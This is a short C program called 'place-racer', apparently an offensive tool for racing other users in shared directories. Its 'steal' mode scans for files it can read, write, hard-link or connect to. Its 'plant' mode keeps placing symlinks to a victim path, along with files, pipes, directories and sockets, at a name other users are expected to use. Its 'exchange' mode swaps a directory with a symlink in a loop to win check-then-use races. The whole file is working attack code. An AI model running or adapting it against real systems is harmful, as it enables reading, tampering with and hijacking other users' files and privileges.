/*
 * place-racer steal DIRECTORY - -: reads, writes, links and connects to whatever another user has below a directory.
 * place-racer plant DIRECTORY NAME VICTIM: puts one thing after another at a name: links to VICTIM, a file, a
 * pipe, a directory, a socket.
 * place-racer exchange DIRECTORY NAME VICTIM: exchanges a directory of its own at a name with a link to VICTIM.
 * All work without a pause until they are killed, and print a line for whatever they got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static const char *directory, *victim;
static char place[4096], spare[4096];

static void got(const char *what, const char *path) {
  printf("%s %s\n", what, path);
  fflush(stdout);
}

static int isOurs(const char *path) {
  struct stat found;
  return lstat(path, &found) != 0 || found.st_uid == getuid();
}

static int connects(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  int is = connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
  close(fd);
  return is;
}

static void opens(const char *path, int flags, const char *what) {
  struct stat found;
  int fd = open(path, flags | O_NONBLOCK | O_NOFOLLOW);
  if (fd < 0) return;
  if (fstat(fd, &found) == 0 && S_ISREG(found.st_mode) && found.st_uid != getuid()) got(what, path);
  close(fd);
}

static void steal(const char *path) {
  if (isOurs(path)) return;
  opens(path, O_RDONLY, "read");
  opens(path, O_WRONLY, "written");
  if (linkat(AT_FDCWD, path, AT_FDCWD, spare, 0) == 0) {
    if (!isOurs(spare)) got("linked", path);
    unlink(spare);
  }
  if (connects(path) && !isOurs(path)) got("connected", path);
}

static void stealBelow(const char *above, int depth) {
  DIR *open = opendir(above);
  if (open == NULL) return;
  for (struct dirent *entry; (entry = readdir(open)) != NULL;) {
    if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", above, entry->d_name);
    steal(path);
    if (depth > 0) stealBelow(path, depth - 1);
  }
  closedir(open);
}

static void bindAt(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  bind(fd, (struct sockaddr *)&address, sizeof address);
  close(fd);
}

static void plant(int kind) {
  if (kind == 0) symlink(victim, place);
  if (kind == 1) close(open(place, O_CREAT | O_EXCL | O_RDWR, 0666));
  if (kind == 2) mkfifo(place, 0666);
  if (kind == 3) mkdir(place, 0777);
  if (kind == 4) bindAt(place);
  if (kind == 5) symlink("/nonexistent/file", place);
  usleep(rand() % 400);
  struct stat found;
  if (lstat(place, &found) != 0 || found.st_uid != getuid()) return;
  if (S_ISREG(found.st_mode) && found.st_size > 0) got("given", place);
  if (rmdir(place) != 0 && S_ISDIR(found.st_mode)) got("entered", place);
  unlink(place);
}

int main(int count, char **words) {
  if (count != 5) return 64;
  directory = words[2];
  victim = words[4];
  umask(0);
  snprintf(place, sizeof place, "%s/%s", directory, words[3]);
  snprintf(spare, sizeof spare, "%s/racer-%d", directory, getpid());
  got("ready", place);
  if (strcmp(words[1], "steal") == 0) for (;;) stealBelow(directory, 2);
  if (strcmp(words[1], "plant") == 0) for (int kind = 0;; kind = (kind + 1) % 6) plant(kind);
  symlink(victim, spare);
  mkdir(place, 0755);
  for (;;) renameat2(AT_FDCWD, place, AT_FDCWD, spare, RENAME_EXCHANGE);
}
